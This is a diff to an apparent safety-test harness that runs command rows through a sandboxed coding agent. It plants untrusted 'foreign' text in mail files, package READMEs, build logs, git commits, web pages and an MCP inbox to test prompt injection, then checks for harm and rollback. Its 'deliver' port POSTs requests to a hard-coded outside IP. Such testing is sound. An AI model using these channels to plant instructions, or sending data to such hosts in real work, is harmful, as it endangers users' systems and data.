@@ -24,6 +24,8 @@ export interface WorldRow {
   readonly later?: string;
   readonly harmed?: string | null;
   readonly check?: string;
+  /** Its effect lies in `/tmp`, which commands behind a wall have for themselves: they are the ones to look. */
+  readonly checkInside?: true;
 }
 /** `bare`: the commands as they stand, by a plain shell. `wall`: by the agent, with whatever keeps it in. */
 export interface WorldOrder {
@@ -31,9 +33,15 @@ export interface WorldOrder {
   readonly mode: 'bare' | 'wall';
   /** What the owner says to every question. */
   readonly answer: 'no' | 'yes' | 'session';
-  /** Words of somebody else that the session has read before the steps. */
-  readonly foreign?: string;
+  /** Words of somebody else that the session reads before the steps, and where it meets them. */
+  readonly foreign?: { readonly text: string; readonly source: string };
+  /** Tool servers the owner has connected, by name. */
+  readonly servers?: readonly string[];
+  /** Everything the agent changed is rolled back afterwards, and the harm looked for once more. */
+  readonly rollBack?: true;
   readonly settings?: string;
+  /** Registries can be reached. */
+  readonly online?: true;
   /** The rows of `test/fixtures/commands` build all they need themselves. */
   readonly plain?: true;
 }
@@ -41,6 +49,8 @@ export interface WorldResult {
   readonly id: string;
   readonly harmedBefore?: boolean;
   readonly harmed?: boolean;
+  /** The same once the owner has rolled back what the agent changed. */
+  readonly harmedAfterRollback?: boolean;
   readonly prepared: boolean;
   readonly steps: readonly StepResult[];
   readonly questions: readonly WorldQuestion[];
@@ -57,11 +67,13 @@ export interface WorldQuestion {
 export interface StepResult {
   readonly code?: number | null;
   readonly output: string;
+  readonly failed?: boolean;
   readonly refused?: boolean;
 }
 
 const PROJECT = process.env['PROJECT'] ?? '';
-const STEP_MS = 30_000;
+const MCP_STUB = '/mnt/hermes/scripts/proofs/world/mcp-stub.ts';
+const STEP_MS = 120_000;
 const TURN_MS = 1_000_000;
 const sh = (script: string, cwd = PROJECT): { readonly code: number | null; readonly output: string } => {
   const ran = spawnSync('/bin/bash', ['-c', `exec 2>&1\n${script}`], { cwd, encoding: 'utf8', timeout: STEP_MS, maxBuffer: 1 << 24 });
@@ -92,13 +104,20 @@ function runBare(steps: readonly RowStep[]): StepResult[] {
 const toCall = (step: RowStep, index: number) => {
   const id = `call_${index}`;
   if ('write' in step) return { id, name: 'write_file', input: { path: place(step.write), content: step.text } };
-  if ('run' in step) return { id, name: 'terminal', input: { command: step.run, ...(step.background === true && { background: true }) } };
+  // As without an agent, every command begins in the project.
+  if ('run' in step)
+    return { id, name: 'terminal', input: { command: step.run, workdir: PROJECT, ...(step.background === true && { background: true }) } };
   if ('tool' in step) return { id, name: step.tool, input: step.args as never };
   return undefined;
 };
 
 /** The same by the agent: a model that does exactly these steps, and an owner who always says the same. */
-async function runByAgent({ row, answer, foreign }: WorldOrder): Promise<Pick<WorldResult, 'steps' | 'questions' | 'notices'>> {
+async function runByAgent({
+  row,
+  answer,
+  foreign,
+  servers = [],
+}: WorldOrder): Promise<Pick<WorldResult, 'steps' | 'questions' | 'notices'>> {
   const questions: WorldQuestion[] = [];
   const notices: string[] = [];
   const steps: StepResult[] = [];
@@ -115,7 +134,17 @@ async function runByAgent({ row, answer, foreign }: WorldOrder): Promise<Pick<Wo
     platform: 'cli',
     cwd: PROJECT,
     provider: scriptedRoute(model),
+    mcpServers: Object.fromEntries(
+      [...servers, ...(foreign === undefined ? [] : ['inbox'])].map((name) => [
+        name,
+        { command: process.execPath, args: [MCP_STUB, name] },
+      ]),
+    ),
     ports: {
+      deliver: async (request) => {
+        await fetch('http://8.7.6.5:8080/deliver', { method: 'POST', body: JSON.stringify(request) });
+        return { ok: true, words: 'Sent.' };
+      },
       clarify: async ({ act, question, notes = [], choices }) => {
         questions.push({ step: steps.length, why: notes.join(' | ').slice(0, 400), act: (act ?? question).slice(0, 300) });
         return answer === 'session' ? (choices.find((each) => /session/i.test(each)) ?? 'yes') : answer;
@@ -129,7 +158,7 @@ async function runByAgent({ row, answer, foreign }: WorldOrder): Promise<Pick<Wo
       if (event.type !== 'tool_finished') continue;
       const output = event.result.content.map((block) => ('text' in block ? block.text : '')).join('\n');
       const code = event.details !== undefined && 'exitCode' in event.details ? { code: event.details.exitCode } : {};
-      steps.push({ output, ...code, ...(output.startsWith('Not run') && { refused: true }) });
+      steps.push({ output, ...code, failed: event.result.failed, ...(output.startsWith('Not run') && { refused: true }) });
       // The file tool knows no modes; a row that wants one has it, as a command would give it.
       if (step !== undefined && 'write' in step && step.mode !== undefined && existsSync(place(step.write)))
         chmodSync(place(step.write), Number.parseInt(step.mode, 8));
@@ -139,13 +168,44 @@ async function runByAgent({ row, answer, foreign }: WorldOrder): Promise<Pick<Wo
 }
 
 /** What the owner says, and what the agent does about it. */
-function toTurns(steps: readonly RowStep[], foreign: string | undefined): { readonly said: string; readonly acts: RowStep[] }[] {
-  const turns = [{ said: foreign === undefined ? 'Go on.' : `Look at this:\n${foreign}`, acts: [] as RowStep[] }];
+function toTurns(steps: readonly RowStep[], foreign: WorldOrder['foreign']): { readonly said: string; readonly acts: RowStep[] }[] {
+  const turns = [{ said: 'Go on.', acts: foreign === undefined ? [] : [placeForeign(foreign)] }];
   for (const step of steps)
     if ('say' in step) turns.push({ said: step.say, acts: [] });
     else turns.at(-1)?.acts.push(step);
   return turns.filter(({ acts }, index) => index === 0 || acts.length > 0);
 }
+
+/** Puts somebody else's words where the agent meets them, and says what it does to read them. */
+function placeForeign({ text, source }: { readonly text: string; readonly source: string }): RowStep {
+  if (/web/.test(source)) return { tool: 'web_extract', args: { urls: ['http://collect.example/page'] } };
+  const file = FOREIGN_FILES.find(([pattern]) => pattern.test(source))?.[1];
+  if (file !== undefined) {
+    mkdirSync(dirname(place(file)), { recursive: true });
+    writeFileSync(place(file), text);
+    if (!file.startsWith('~')) sh('git add -A && git commit -qm "notes"');
+    return /output|error/.test(source) ? { run: `cat ${file}` } : { tool: 'read_file', args: { path: place(file) } };
+  }
+  if (!/git/.test(source)) return { tool: 'mcp__inbox__call', args: {} };
+  writeFileSync('/tmp/message', text);
+  sh('git commit -q --allow-empty -F /tmp/message');
+  return { run: 'git log -1' };
+}
+const FOREIGN_FILES: readonly (readonly [source: RegExp, file: string])[] = [
+  [/mail/, '~/Downloads/message.eml'],
+  [/pdf/, '~/Downloads/report.txt'],
+  [/package/, 'node_modules/tiny/README.md'],
+  [/file/, 'docs/notes.md'],
+  [/output|error/, 'build.log'],
+];
+
+/** Everything of the agent, as an owner would: to before the oldest checkpoint, whoever changed it since. */
+const rollBack = (): string => {
+  const hermes = `'${process.execPath}' /mnt/hermes/dist/main.cjs`;
+  return sh(
+    `last=$(${hermes} checkpoints list --json | jq -r 'last | .id // empty') && [ -z "$last" ] || ${hermes} checkpoints restore "$last" --all`,
+  ).output;
+};
 
 async function main(orderFile: string, resultFile: string): Promise<void> {
   const order = JSON.parse(readFileSync(orderFile, 'utf8')) as WorldOrder;
@@ -163,15 +223,20 @@ async function main(orderFile: string, resultFile: string): Promise<void> {
     ...(before !== undefined && { harmedBefore: before }),
   };
   try {
-    const done = mode === 'bare' ? { steps: runBare(row.steps), questions: [] } : await runByAgent(order);
+    const inside = mode === 'wall' && row.checkInside === true && row.check !== undefined ? [{ run: row.check }] : [];
+    const acts = { ...order, row: { ...row, steps: [...row.steps, ...inside] } };
+    const done = mode === 'bare' ? { steps: runBare(row.steps), questions: [] } : await runByAgent(acts);
     if (process.env['OUT'] !== undefined) writeFileSync(process.env['OUT'], done.steps.map(({ output }) => output).join('\n'));
     if (row.later !== undefined) sh(row.later);
     const harmed = isHarmed();
+    const undone = order.rollBack === true && harmed === true && before !== true ? rollBack() : undefined;
+    const stillHarmed = undone === undefined ? undefined : isHarmed();
     result = {
       ...result,
       ...done,
       ...(harmed !== undefined && { harmed }),
-      ...(row.check !== undefined && { effect: sh(row.check).output }),
+      ...(stillHarmed !== undefined && { harmedAfterRollback: stillHarmed, notices: [undone ?? ''] }),
+      ...(row.check !== undefined && { effect: inside.length > 0 ? (done.steps.at(-1)?.output ?? '') : sh(row.check).output }),
     };
   } catch (error) {
     result = { ...result, trouble: error instanceof Error ? (error.stack ?? error.message) : String(error) };
